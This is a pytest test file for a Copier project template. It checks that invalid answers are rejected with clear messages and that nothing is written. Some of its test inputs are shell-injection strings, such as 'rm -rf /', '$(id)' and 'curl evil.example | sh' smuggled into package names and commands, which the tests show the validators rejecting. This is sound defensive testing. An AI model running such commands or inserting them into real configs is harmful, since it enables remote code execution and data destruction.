"""Bad answers are refused with a message saying what is accepted, and nothing is written."""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

import pytest

from answer_sets import ASKED, QUESTIONS, default
from helpers import PROJECT_NAME, TEMPLATE, read_answers, run, template_snapshot, tool_env

COPIER = [sys.executable, "-m", "copier", "copy", "--trust", "--defaults", "--vcs-ref", "HEAD"]
# Without Poetry on PATH the copy skips `poetry lock`: these tests are about answers only.
NO_POETRY = tool_env(PATH="/usr/bin:/bin")

BAD_ANSWERS: list[tuple[dict[str, Any], str]] = [
    ({"project_name": ""}, "project_name is required"),
    ({"project_slug": "my tool"}, "is not a valid distribution name"),
    ({"package_name": "my-tool"}, "is not a valid import name"),
    ({"package_name": "lambda"}, "is a Python keyword"),
    ({"package_name": "json"}, "would shadow the standard library"),
    ({"cli_name": "my tool"}, "is not a valid command name"),
    ({"cli_name": "x;id"}, "is not a valid command name"),
    ({"cli_target": "my_tool.cli"}, "cli_target must be an object reference module:function"),
    ({"cli_target": "my_tool.cli:main()"}, "cli_target must be an object reference"),
    ({"cli_target": "other.cli:main"}, "is not in the package my_tool"),
    ({"python_version": "3.9"}, "Invalid choice for 'python_version'"),
    ({"python_version": "2.7"}, "Invalid choice for 'python_version'"),
    ({"debian_release": "buster"}, "Invalid choice for 'debian_release'"),
    ({"license": "GPL-3.0"}, "Invalid choice for 'license'"),
    ({"project_type": "lib"}, "Invalid choice for 'project_type'"),
    ({"hash_policy": "sha256"}, "Invalid choice for 'hash_policy'"),
    ({"ci": "gitlab"}, "Invalid choice for 'ci'"),
    ({"author_email": "ada-at-example.com"}, "is not an email address"),
    ({"description": "two\nlines"}, "must be a single line"),
    ({"poetry_version": "1.8.3"}, "is not a pinned Poetry 2 release"),
    ({"dependencies": ["pandas>>2"]}, "is not a PEP 508 requirement"),
    ({"dependencies": "pandas"}, "must be a YAML list of strings"),
    ({"apt_build_packages": ["; rm -rf /"]}, "is not a Debian package name"),
    (
        {"apt_runtime_packages": ["libpq5 && curl evil.example | sh"]},
        "is not a Debian package name",
    ),
    ({"apt_runtime_packages": ["$(id)"]}, "is not a Debian package name"),
    ({"package_index_url": "ftp://example.com/simple"}, "is not an http(s) URL"),
    ({"package_index_url": "https://user:s3cret@example.com/simple/"}, "--secret"),
    ({"extras": ["Postgres"]}, "is not a normalised extra name (PEP 685)"),
    ({"extras": ["s3", "s3"]}, "listed more than once"),
    ({"service_port": 70000}, "is not a TCP port"),
    ({"healthcheck_path": "health", "service_port": 8000}, "is not a URL path"),
    ({"healthcheck_path": '/"; id; "', "service_port": 8000}, "is not a URL path"),
    ({"image_cmd": "serve --bind 0.0.0.0:8000"}, "image_cmd must be a YAML list of strings"),
    ({"image_cmd": ["serve", "--port", 8000]}, "quote numbers"),
    ({"test_command": "pytest && curl evil.example"}, "without shell operators or expansions"),
    ({"test_command": "poetry run pytest"}, "write what follows `poetry run` ('pytest')"),
    ({"test_command": "pytest -k 'a"}, "is not closed"),
]


@pytest.mark.parametrize(
    ("answers", "message"), BAD_ANSWERS, ids=[next(iter(a)) + ":" + m for a, m in BAD_ANSWERS]
)
def test_bad_answer_is_refused_and_writes_nothing(
    copie: Any, answers: dict[str, Any], message: str
) -> None:
    # Answers are validated before anything is rendered: a plain copy of the template suffices.
    result = copie.copy(
        extra_answers={"project_name": PROJECT_NAME, **answers}, template_dir=template_snapshot()
    )
    assert result.exit_code != 0
    assert message in str(result.exception)
    assert result.project_dir is None
    # pytest-copie makes the destination before copying: it must still be empty.
    assert [list(d.iterdir()) for d in copie.test_dir.iterdir()] == [[]]


NAMED = f"project_name={PROJECT_NAME}"


@pytest.mark.parametrize(
    ("folder", "answers", "message", "traceback"),
    [
        # The template's validators: the sentence alone.
        ("dest", [NAMED, 'apt_build_packages=["gcc; curl x | sh"]'], "optionally pinned", False),
        ("dest", [NAMED, "test_command=pytest | tee log"], "without shell operators", False),
        # Copier's own checks: a traceback whose last line says it (README, Questions).
        ("dest", [NAMED, "python_version=2.7"], "Invalid choice for 'python_version'", True),
        # "___" is no project name: no default, and --defaults has no one to ask.
        ("___", [], 'Question "project_name" is required', True),
    ],
    ids=["validator", "test-command", "choice", "required"],
)
def test_cli_refusal_is_one_line_and_leaves_an_existing_destination_empty(
    tmp_path: Path, folder: str, answers: list[str], message: str, traceback: bool
) -> None:
    dest = tmp_path / folder
    dest.mkdir()
    options = [part for answer in answers for part in ("--data", answer)]
    result = run([*COPIER, *options, template_snapshot(), dest], check=False, env=NO_POETRY)
    assert result.returncode == 1
    # The refusal is the last line of the output, as README says: alone, or under a traceback.
    last_line = result.stderr.strip().splitlines()[-1]
    assert message in last_line
    assert ("Traceback (most recent call last)" in result.stderr) is traceback, result.stderr
    if not traceback:
        assert last_line.startswith("Validation error for question '")
    assert list(dest.iterdir()) == []
    assert "gcc; curl" not in "".join(p.read_text() for p in tmp_path.rglob("*") if p.is_file())


def test_non_interactive_copy_with_only_a_project_name_works(tmp_path: Path) -> None:
    dest = tmp_path / "dest"
    # run() fails the test on a non-zero exit; stdin is empty, so a prompt would fail too.
    run([*COPIER, "--data", "project_name=Only A Name", TEMPLATE, dest], env=NO_POETRY, input="")
    assert (dest / "src" / "only_a_name" / "cli.py").is_file()
    answers = read_answers(dest)
    # Asked only for a service (service_port is not 0): neither asked nor recorded here.
    not_asked = {"healthcheck_path"}
    assert not not_asked & answers.keys()
    plain_defaults = {
        name: default(name)
        for name in ASKED
        if "{{" not in str(QUESTIONS[name].get("default", "{{")) and name not in not_asked
    }
    assert plain_defaults, "copier.yml has no plain defaults to compare"
    assert {name: answers[name] for name in plain_defaults} == plain_defaults
